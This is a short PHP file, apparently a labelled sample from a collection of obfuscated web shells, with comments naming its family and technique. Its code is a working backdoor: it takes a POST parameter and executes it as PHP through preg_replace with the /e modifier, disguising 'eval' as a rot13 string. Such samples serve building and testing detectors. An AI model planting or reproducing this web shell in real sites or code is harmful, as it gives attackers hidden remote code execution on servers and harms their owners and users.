<?php
// Family: obfuscation/preg-e
// Style: evaluator hidden in the replacement of a preg_replace with the e modifier
// Trait: the replacement is assembled from rot13 pieces and run by /e on a dummy subject
$k = $_POST['k'];
@preg_replace('/kk/e', '@' . str_rot13('riny') . '($k)', 'kk');
